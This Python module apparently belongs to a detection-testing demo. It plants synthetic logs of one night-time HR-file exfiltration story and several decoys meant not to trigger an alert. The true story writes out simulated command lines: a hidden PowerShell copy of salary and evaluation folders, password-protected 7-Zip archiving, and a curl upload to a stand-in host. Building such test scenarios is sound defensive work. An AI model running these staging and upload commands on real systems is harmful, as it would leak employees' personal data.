"""The planted stories: one true S7 (off-hours staging) and the decoys that must not raise it.

S7 (requirements S7, R16, R7, R3): a user's PC reads several important files on
``\\\\FS01\\jinji`` at night or on a holiday, and within 30 minutes the same PC sends
traffic that takes the default route, which the sinkhole records. Each decoy breaks
exactly one condition of that chain (no follow-up, no file access, too late, business
hours, another PC, a look-alike share).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from kizuki.demo.ambient import FS01, SHARE_BY_NAME, open_file, samba_read, system_proc
from kizuki.demo.sim import Proc, Sim
from kizuki.demo.world import DNS_DOMAIN, FILES, HOST_BY_NAME, PEOPLE, Day, Person, Share

#: How soon after the file access the default-route traffic comes in the true instance.
S7_WINDOW = timedelta(minutes=30)


@dataclass(slots=True)
class Story:
    """One planted instance or decoy, with logbook handles of the records it made."""

    id: str
    kind: str
    description: str
    expect_alert: bool
    hosts: list[str]
    users: list[str]
    files: list[str] = field(default_factory=list)
    file_access_first: datetime | None = None
    file_access_last: datetime | None = None
    sinkhole_first: datetime | None = None
    sinkhole_host: str | None = None
    destination: str | None = None
    file_handles: list[int] = field(default_factory=list)
    sinkhole_handles: list[int] = field(default_factory=list)
    support_handles: list[int] = field(default_factory=list)


@dataclass(frozen=True, slots=True)
class Cast:
    """Who plays which part and on which day, chosen from the seed before anything runs."""

    s7: Person
    s7_day: Day
    roles: dict[str, tuple[Person, Day]]
    lockout: Person
    absent: frozenset[tuple[str, int]]

    @property
    def actors(self) -> frozenset[str]:
        """Users whose PCs appear in a planted story (they never work overtime)."""
        return frozenset({self.s7.user, *(p.user for p, _ in self.roles.values())})


def choose_cast(rng: random.Random, days: tuple[Day, ...]) -> Cast:
    """Pick the actors and days: S7 on the holiday if the week has one."""
    working = [d for d in days if d.working]
    holidays = [d for d in days if d.holiday is not None]
    s7_day = holidays[0] if holidays else working[1 % len(working)]

    def wday(i: int) -> Day:
        return working[i % len(working)]

    hr = [p for p in PEOPLE if p.department == "jinji"]
    a2 = rng.choice(hr)
    others = rng.sample([p for p in PEOPLE if p is not a2], 9)
    s7, a, b, c, d, e1, e2, f, lockout = others
    roles = {
        "a": (a, wday(0)), "a2": (a2, wday(1)), "b": (b, wday(1)), "c": (c, wday(2)),
        "d": (d, wday(2)), "e1": (e1, wday(3)), "e2": (e2, wday(3)), "f": (f, wday(0)),
    }
    # The PC owner of decoy (b) is on leave: the PC is on, nobody touches the shares.
    absent = frozenset({(b.user, roles["b"][1].index)})
    return Cast(s7, s7_day, roles, lockout, absent)


def _as_logged(ts: datetime, resolution: str) -> datetime:
    """``ts`` cut to what the log shows: Windows keeps milliseconds, syslog seconds."""
    if resolution == "ms":
        return ts.replace(microsecond=ts.microsecond // 1000 * 1000)
    return ts.replace(microsecond=0)


def _minutes(sim: Sim, day: Day, hour: int, minute: int, spread: int = 4) -> datetime:
    return day.at(hour, minute) + timedelta(seconds=sim.rng.uniform(0, spread * 60))


def _fs01_read(sim: Sim, story: Story, ts: datetime, person: Person, share: Share,
               rels: list[str], gap: tuple[float, float] = (120.0, 240.0)) -> datetime:
    """Open ``rels`` on FS01 from the person's PC; returns the last access time."""
    pc = HOST_BY_NAME[person.pc]
    lid = sim.logon_id()
    before = ts - timedelta(seconds=sim.rng.uniform(5, 20))
    story.support_handles.append(sim.sysmon_connect(before, pc, system_proc(sim), FS01.ip, 445,
                                                    dst_name=f"fs01.{DNS_DOMAIN}"))
    story.support_handles.append(sim.logon(sim.jitter(before, 0.3), FS01, person.user, 3, lid,
                                           client=pc))
    t = ts
    for i, rel in enumerate(rels):
        if i:
            t += timedelta(seconds=sim.rng.uniform(*gap))
        story.file_handles += open_file(sim, t, person.user, pc, share, rel, lid)
        story.files.append(f"{share.unc}\\{rel}")
    if story.file_access_first is None:
        story.file_access_first = _as_logged(ts, "ms")
    story.file_access_last = _as_logged(t, "ms")
    story.support_handles.append(sim.logoff(t + timedelta(minutes=2), FS01, person.user, 3,
                                            lid))
    return t


def _default_route(sim: Sim, story: Story, ts: datetime, person: Person, image: str,
                   command: str, dst: str, tries: int, name: str | None = None, *,
                   parent: Proc | None = None, lid: str = "0x3e7",
                   as_system: bool = False) -> None:
    """A program on the PC connects straight out; with no default route it hits the sinkhole.

    Without ``parent`` the program is a scheduled task (Task Scheduler's svchost).
    """
    pc = HOST_BY_NAME[person.pc]
    handle, proc = sim.sysmon_process(ts - timedelta(seconds=sim.rng.uniform(2, 6)), pc,
                                      "SYSTEM" if as_system else person.user, image, command,
                                      parent or sim.task_scheduler(), lid)
    story.support_handles.append(handle)
    if name is not None:
        story.support_handles.append(sim.dns(ts - timedelta(seconds=0.4), pc, name, [dst],
                                             ttl=300))
        story.support_handles.append(sim.sysmon_dns(ts - timedelta(seconds=0.3), pc, proc,
                                                    name, [dst]))
    t = ts
    for _ in range(tries):
        story.support_handles.append(sim.sysmon_connect(t, pc, proc, dst, 443))
        story.sinkhole_handles += sim.sinkhole_attempt(t + timedelta(milliseconds=2), pc, dst,
                                                       443)
        t += timedelta(seconds=sim.rng.uniform(60, 150))
    story.sinkhole_first = _as_logged(ts + timedelta(milliseconds=2), "s")
    story.sinkhole_host = pc.name
    story.destination = f"{dst}:443"


def _night_unlock(sim: Sim, story: Story, ts: datetime, person: Person) -> str:
    """The user's PC session is unlocked at night (4624 type 7); returns its logon id."""
    pc = HOST_BY_NAME[person.pc]
    lid = sim.logon_id()
    story.support_handles.append(sim.logon(ts, pc, person.user, 7, lid))
    return lid


def plant(sim: Sim, cast: Cast) -> list[Story]:
    """Write the true S7 instance and every decoy; return them in a fixed order."""
    jinji, common = SHARE_BY_NAME["jinji"], SHARE_BY_NAME["common"]
    important = [r for r in FILES["jinji"]]
    stories: list[Story] = []

    # --- the one true instance -------------------------------------------------------
    p = cast.s7
    s7 = Story("S7", "off-hours-staging", "Night (or holiday) reads of important HR files "
               "on \\\\FS01\\jinji, then the same PC's traffic to the default route within "
               "30 minutes.", True, [p.pc], [p.user])
    start = _minutes(sim, cast.s7_day, 23, 8, 3)
    lid = _night_unlock(sim, s7, start - timedelta(minutes=11), p)
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    handle, shell = sim.sysmon_process(start - timedelta(seconds=40), HOST_BY_NAME[p.pc], p.user,
                                   ps, f'"{ps}" -NoProfile -WindowStyle Hidden -Command '
                                   f"\"Copy-Item '{jinji.unc}\\給与\\*','{jinji.unc}\\人事評価\\*'"
                                   " -Destination $env:TEMP\\stage\"", None, lid)
    s7.support_handles.append(handle)
    picks = sim.rng.sample(important, 5)
    last = _fs01_read(sim, s7, start, p, jinji, picks, (90.0, 200.0))
    zip_at = last + timedelta(minutes=2)
    seven = "C:\\Users\\Public\\7za.exe"
    handle, _ = sim.sysmon_process(zip_at, HOST_BY_NAME[p.pc], p.user, seven,
                                   f"{seven} a -mhe=on -pS3cr3t C:\\Users\\Public\\upd.7z "
                                   f"C:\\Users\\{p.user}\\AppData\\Local\\Temp\\stage\\*", shell,
                                   lid)
    s7.support_handles.append(handle)
    out_at = start + timedelta(minutes=24, seconds=sim.rng.randint(0, 90))
    curl = "C:\\Windows\\System32\\curl.exe"
    _default_route(sim, s7, out_at, p, curl,
                   f"{curl} -s -k -T C:\\Users\\Public\\upd.7z https://sync-cdn.example.net/u",
                   "198.51.100.77", 3, "sync-cdn.example.net", parent=shell, lid=lid)
    stories.append(s7)

    # --- decoys ------------------------------------------------------------------------
    person, day = cast.roles["a"]
    a = Story("D-a", "night-access-no-followup", "Night reads of important files on "
              "\\\\FS01\\jinji with no traffic to the default route afterwards.", False,
              [person.pc], [person.user])
    ts = _minutes(sim, day, 22, 30)
    _night_unlock(sim, a, ts - timedelta(minutes=6), person)
    _fs01_read(sim, a, ts, person, jinji, sim.rng.sample(important, 3))
    stories.append(a)

    person, day = cast.roles["a2"]
    a2 = Story("D-a2", "night-access-no-followup", "Night reads on the Linux file server's "
               "important share \\\\FS02\\jinji2 (Samba full_audit), no follow-up.", False,
               [person.pc], [person.user])
    ts = _minutes(sim, day, 21, 40)
    rels = sim.rng.sample(list(FILES["jinji2"]), 2)
    handles, opened = samba_read(sim, ts, person.user, HOST_BY_NAME[person.pc], rels)
    a2.file_handles += handles
    a2.files += [f"\\\\FS02\\jinji2\\{r}" for r in rels]
    a2.file_access_first = _as_logged(opened[0], "s")
    a2.file_access_last = _as_logged(opened[-1], "s")
    stories.append(a2)

    person, day = cast.roles["b"]
    b = Story("D-b", "sinkhole-without-access", "A PC whose owner is on leave reaches the "
              "default route at night (an updater with no proxy settings); no file access "
              "that day.", False, [person.pc], [person.user])
    _default_route(sim, b, _minutes(sim, day, 23, 20), person,
                   "C:\\Program Files (x86)\\PrintAssist\\pa_update.exe",
                   '"C:\\Program Files (x86)\\PrintAssist\\pa_update.exe" /silent',
                   "203.0.113.200", 1, as_system=True)
    stories.append(b)

    person, day = cast.roles["c"]
    c = Story("D-c", "sinkhole-too-late", "Night reads of important files, then the same "
              "PC's default-route traffic more than three hours later.", False, [person.pc],
              [person.user])
    ts = _minutes(sim, day, 21, 5)
    _night_unlock(sim, c, ts - timedelta(minutes=4), person)
    last = _fs01_read(sim, c, ts, person, jinji, sim.rng.sample(important, 3))
    onedrive = f"C:\\Users\\{person.user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
    _default_route(sim, c, last + timedelta(hours=3, minutes=sim.rng.randint(5, 15)), person,
                   onedrive, f'"{onedrive}" /background', "203.0.113.201", 2)
    stories.append(c)

    person, day = cast.roles["d"]
    d = Story("D-d", "business-hours-sequence", "Reads of important files and default-route "
              "traffic 15 minutes later from the same PC, but in business hours on a "
              "working day.", False, [person.pc], [person.user])
    ts = _minutes(sim, day, 14, 5)
    _fs01_read(sim, d, ts, person, jinji, sim.rng.sample(important, 3))
    zoom = "C:\\Program Files\\Zoom\\bin\\Zoom.exe"
    _default_route(sim, d, ts + timedelta(minutes=15), person, zoom, f'"{zoom}" --update',
                   "203.0.113.202", 2, "zoom-update.example.com")
    stories.append(d)

    reader, day = cast.roles["e1"]
    sender, _ = cast.roles["e2"]
    e = Story("D-e", "sinkhole-from-other-pc", "Night reads of important files by one PC, "
              "then default-route traffic from a different PC 15 minutes later.", False,
              [reader.pc, sender.pc], [reader.user, sender.user])
    ts = _minutes(sim, day, 22, 10)
    _night_unlock(sim, e, ts - timedelta(minutes=5), reader)
    _fs01_read(sim, e, ts, reader, jinji, sim.rng.sample(important, 3))
    gupdate = "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"
    _default_route(sim, e, ts + timedelta(minutes=15), sender, gupdate, f'"{gupdate}" /ua',
                   "198.51.100.203", 1)
    stories.append(e)

    person, day = cast.roles["f"]
    f = Story("D-f", "lookalike-share", "Night reads of old copies under "
              "\\\\FS01\\common\\jinji_old (not an important share), then default-route "
              "traffic from the same PC within 15 minutes.", False, [person.pc],
              [person.user])
    ts = _minutes(sim, day, 23, 5)
    _night_unlock(sim, f, ts - timedelta(minutes=3), person)
    old = [r for r in FILES["common"] if r.startswith("jinji_old")]
    _fs01_read(sim, f, ts, person, common, old)
    tool = f"C:\\Users\\{person.user}\\AppData\\Local\\Temp\\sync_tool.exe"
    _default_route(sim, f, ts + timedelta(minutes=15), person, tool, f'"{tool}"',
                   "198.51.100.204", 2)
    stories.append(f)
    return stories
